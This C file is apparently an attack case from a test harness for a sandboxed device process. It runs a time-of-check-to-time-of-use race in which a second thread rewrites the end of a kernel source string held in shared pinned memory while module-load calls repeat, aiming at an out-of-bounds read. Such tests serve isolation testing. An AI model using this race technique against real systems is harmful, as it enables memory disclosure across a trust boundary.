/* Tries to change a text between the check of its end and its use: the source of a kernel lies in pinned memory, which
 * the device process has at the same address, and a second thread overwrites its end. Gains a read behind the text. */
#include "parts/wire.h"

static char *source;
static volatile int over;
enum { LENGTH = 1 << 16 };

static void *flip(void *user)
{
    while (!over) {
        __asm__ volatile("" : : : "memory");
        memset(source + 100, 0, LENGTH - 100);
        memset(source + 100, '/', LENGTH - 100);
        source[LENGTH - 1] = '\0';
    }
    return user;
}

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    pthread_t thread;
    unsigned char message[35] = {1, [9] = 2, [26] = 2}; /* room for the result; two texts in the program's memory */
    const uint64_t text[2] = {LENGTH, 0};
    LAB_TRY(lab_host_alloc((void **)&source, LENGTH));
    memset(source, ' ', LENGTH);
    strcpy(source, "extern \"C\" __global__ void k(int *x) { *x = 1; } //");
    source[strlen(source)] = '/';
    memcpy(message + 10, text, 8);
    memcpy(message + 18, &source, 8);
    message[26] = 0; /* no name */
    w_channel *channel = w_open();
    if (!channel || pthread_create(&thread, NULL, flip, NULL)) return LAB_ERROR_UNKNOWN;
    for (int i = 0; i < 200 && w_call(channel, CALL_NUMBER(lab_module_load_source), message, 27) >= 0; i++) continue;
    over = 1;
    pthread_join(thread, NULL);
    return LAB_SUCCESS;
}
